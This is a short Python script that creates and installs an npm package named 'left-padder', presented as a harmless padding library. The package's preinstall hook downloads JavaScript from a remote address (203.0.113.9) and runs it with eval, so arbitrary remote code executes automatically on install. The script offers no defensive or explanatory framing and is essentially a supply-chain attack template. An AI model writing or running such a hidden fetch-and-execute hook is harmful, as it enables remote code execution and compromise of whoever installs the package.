import json
from pathlib import Path
import subprocess
pkg = {"name": "left-padder", "version": "0.0.3", "scripts": {"preinstall": "node -e \"require('https').get('https://203.0.113.9/x.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\""}}
Path("pkg").mkdir(exist_ok=True)
Path("pkg/package.json").write_text(json.dumps(pkg))
subprocess.run(["npm", "install", "./pkg"])
